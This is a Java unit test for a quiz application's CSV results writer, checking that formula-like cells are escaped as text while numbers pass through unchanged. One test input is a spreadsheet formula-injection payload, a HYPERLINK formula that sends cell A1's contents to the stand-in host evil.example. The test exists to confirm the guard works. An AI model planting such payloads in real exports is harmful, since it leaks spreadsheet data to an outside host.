package org.hygiene.quiz.player;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** The quiz results CSV goes through the shared writer, formula guard included. */
class ResultsFileCsvTest {

    @Test
    void aTypedAnswerOrNameThatLooksLikeAFormulaIsWrittenAsText() {
        assertThat(ResultsFile.cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\"");
        assertThat(ResultsFile.cell("@SUM(A1)")).isEqualTo("'@SUM(A1)");
        assertThat(ResultsFile.cell("\t=1")).isEqualTo("'\t=1");
    }

    @Test
    void pointsAndNegativeMarksStayNumbers() {
        assertThat(ResultsFile.cell("-0.5")).isEqualTo("-0.5");
        assertThat(ResultsFile.cell("241")).isEqualTo("241");
    }
}
